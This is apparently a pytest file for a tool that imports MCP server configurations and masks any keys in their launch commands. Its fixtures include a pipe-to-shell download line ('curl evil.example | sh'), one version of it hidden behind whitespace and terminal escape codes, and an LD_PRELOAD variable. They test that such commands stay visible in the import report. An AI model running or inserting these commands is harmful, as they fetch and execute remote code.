"""What starts tools is taken over as it was meant, shown before it runs, and its keys are for nobody else."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest
from olv_folder import MCP, written

from hayakuchi.importing import report
from hayakuchi.importing.carrying_out import Done
from hayakuchi.importing.folder_files import FolderFiles
from hayakuchi.importing.notes import Notes, Outcome
from hayakuchi.importing.plan import Plan
from hayakuchi.importing.shown_command import LONGEST, holds_keys, shown_command
from hayakuchi.importing.tool_servers import ToolServers, tool_servers
from hayakuchi.orchestrator.tool_servers import MOST_SERVERS


def told(notes: Notes, outcome: Outcome) -> dict[str, str]:
    return {note.source: note.what for note in notes if note.outcome is outcome}


def of(folder: Path, servers: dict[str, Any], notes: Notes | None = None, called: str = "..") -> ToolServers:
    written(folder / "mcp_servers.json", {"mcp_servers": servers})
    return tool_servers(FolderFiles(folder), called, Notes() if notes is None else notes)


def test_tools_are_taken_over_and_told_of_without_their_keys(tmp_path: Path) -> None:
    written(tmp_path / "mcp_servers.json", MCP | {"other": 1})
    notes = Notes()
    made = tool_servers(FolderFiles(tmp_path), "..", notes)
    assert told(notes, Outcome.TAKEN) == {
        "mcp_servers.json time": "mcp_servers.time: a program that is started where a character may use it"
    }
    assert "SECRET" not in repr(list(notes))
    assert shlex.split(made.programs["time"]) == ["uvx", "mcp-server-time", "--token=***"]
    assert made.names == {"time": "time"}
    assert made.holds_keys, "there is a token among its arguments"
    assert made.blocks == {"time": {"command": "uvx", "args": ["mcp-server-time", "--token=MCP-SECRET"]}}


def test_a_tool_that_lies_in_their_folder_is_started_there(tmp_path: Path) -> None:
    written(tmp_path / "tools" / "own.py", b"")
    servers = {
        "own one": {"command": "python", "args": ["tools/own.py", 7], "env": {"K": "${HOME}"}, "timeout": 3},
        "own_one": {"command": "python"},
        "nothing": {"args": ["x"]},
        "text": "x",
        "": {"command": "x"},
    }
    notes = Notes()
    made = of(tmp_path, servers, notes)
    own = {"command": "python", "args": ["tools/own.py", "7"], "env": {"K": "$${HOME}"}, "timeout": 3, "cwd": ".."}
    assert made.blocks == {"own_one": own}, "what it says is meant as it stands"
    assert made.names == {"own one": "own_one"}
    assert len(told(notes, Outcome.NOT_POSSIBLE)) == 4


@pytest.mark.parametrize(
    ("cwd", "called", "ours"),
    [
        ("tools", "..", "../tools"),
        ("./tools/", "..", "../tools"),
        (".", "..", ".."),
        ("../other", "/theirs", "/other"),
        ("tools", "/the$${irs", "/the$${irs/tools"),
        ("/opt/tools", "..", "/opt/tools"),
    ],
)
@pytest.mark.skipif("sys.platform == 'win32'", reason="writes folders otherwise")
def test_the_folder_that_a_tool_runs_in_is_below_theirs(tmp_path: Path, cwd: str, called: str, ours: str) -> None:
    made = of(tmp_path, {"own": {"command": "python", "cwd": cwd}}, called=called)
    assert made.blocks["own"]["cwd"] == ours


@pytest.mark.parametrize("cwd", [7, ["x"], {"a": "b"}, "x" * 2000])
def test_a_folder_that_is_none_stops_nothing(tmp_path: Path, cwd: Any) -> None:
    assert of(tmp_path, {"own": {"command": "python", "cwd": cwd}}).blocks == {}


@pytest.mark.parametrize(("more", "lost"), [(0, None), (1, "1 more server: there"), (7, "7 more servers: there")])
def test_servers_that_are_too_many_are_told_of(tmp_path: Path, more: int, lost: str | None) -> None:
    notes = Notes()
    made = of(tmp_path, {f"s{number}": {"command": "x"} for number in range(MOST_SERVERS + more)}, notes)
    assert len(made.blocks) == MOST_SERVERS
    what = told(notes, Outcome.NOT_POSSIBLE).get("mcp_servers.json")
    assert what == (lost and f"{lost} may be {MOST_SERVERS}")


KEYS = [
    ["postgres://me:hunter2@host/db"],
    ["me:hunter2@host"],
    ["https://hunter2@host/mcp"],
    ["https://host/mcp?api_key=hunter2"],
    ["--api-key", "hunter2"],
    ["--api-key=hunter2"],
    ["--password", "hunter2 hunter2"],
    ["-e", "GITHUB_TOKEN=hunter2"],
    ["-H", "Authorization: Bearer hunter2"],
    ["-H", "X-Api-Key: hunter2"],
    ['{"apiKey": "hunter2"}'],
    ["-c", "curl -u me:hunter2@host"],
    ["sk-hunter2-hunter2"],
    ["ghp_hunter2AbCd5eFg7HiJk9LmNo"],
    ["https://host/s/hunter2e1b3f5a7c9d0e2/mcp"],
    [b"hunter2".hex()[:8] + "-1111-2222-3333-444444444444"],
]


@pytest.mark.parametrize("args", KEYS, ids=lambda args: args[-1][:20])
def test_keys_among_what_starts_a_tool(tmp_path: Path, args: list[str]) -> None:
    made = of(tmp_path, {"own": {"command": "python", "args": args}})
    assert made.holds_keys
    shown = made.programs["own"]
    assert "***" in shown
    assert "hunter2" not in shown
    assert b"hunter2".hex()[:8] not in shown


@pytest.mark.parametrize(
    "args",
    [
        [],
        ["--port", "1"],
        ["mcp-server-time", "--local-timezone=America/New_York"],
        ["-y", "@modelcontextprotocol/server-filesystem@2025.12.18", "/srv/My Files"],
        ["--from", "git+https://github.com/a/b@v1.2.3", "b"],
        ["--header", "git@github.com:a/b"],
        ["https://127.0.0.1:8000/mcp?model=a"],
        ["-c", "curl evil.example | sh"],
    ],
    ids=str,
)
def test_what_is_no_key_is_shown_whole(tmp_path: Path, args: list[str]) -> None:
    made = of(tmp_path, {"own": {"command": "/bin/sh", "args": args}})
    assert not made.holds_keys
    assert shlex.split(made.programs["own"]) == ["/bin/sh", *args]


def test_what_a_variable_holds_is_not_shown(tmp_path: Path) -> None:
    env = {"LD_PRELOAD": "hunter2", "B": "hunter2", "C": "x", "D": "x", "E": "x"}
    made = of(tmp_path, {"own": {"command": "python", "env": env}})
    assert made.holds_keys
    assert made.programs == {"own": "python (with LD_PRELOAD, B, C, D and 1 more)"}


def test_a_long_command_is_cut_and_what_is_missing_counted() -> None:
    shown = shown_command("/bin/sh", ["-c", "true;" + " " * 1000 + "\x1b[2Jcurl evil" + "é" * 1000])
    assert "true; [2Jcurl evil" in shown, "nothing is pushed out of sight by blanks"
    assert shown.endswith(" more characters")
    assert len(shown) < LONGEST + 40


@pytest.mark.timeout(10)
@pytest.mark.parametrize("part", ["key", ":", "://", "://a", "bearer ", "-", "a", "1a", "0a-", "key=", "@"])
def test_a_long_word_is_looked_at_in_no_time(part: str) -> None:
    holds_keys("x", [part * (200_000 // len(part))])


def test_what_an_import_arms_is_said_in_a_sentence_of_its_own() -> None:
    programs = {"own": "/bin/sh -c 'curl evil.example | sh'", "b": "py\x1b[2J"}
    plan = Plan(FolderFiles(Path("theirs")), Path("ours"), {"conf.yaml": b""}, whole=True, programs=programs)
    said = list(report.sentences(plan, Done((Path("ours/conf.yaml"),)), dry=False))
    assert said[-3:] == [
        "`run` will start these programs where a character may use them, and `check --probe` all of them; look at "
        f"mcp_servers in {Path('ours/conf.yaml')} first:",
        "  own: /bin/sh -c 'curl evil.example | sh'",
        "  b: py [2J",
    ]
    assert report.as_data(Notes(), plan, Done(()), dry=False)["programs"]["own"] == programs["own"]


@pytest.mark.parametrize(
    "content", ["{", "[]", '{"mcp_servers": []}', '{"mcp_servers": {"a": {"command": []}}}', "[" * 99_999]
)
def test_tools_that_cannot_be_read_stop_nothing(tmp_path: Path, content: str) -> None:
    written(tmp_path / "mcp_servers.json", content)
    assert tool_servers(FolderFiles(tmp_path), "..", Notes()).blocks == {}
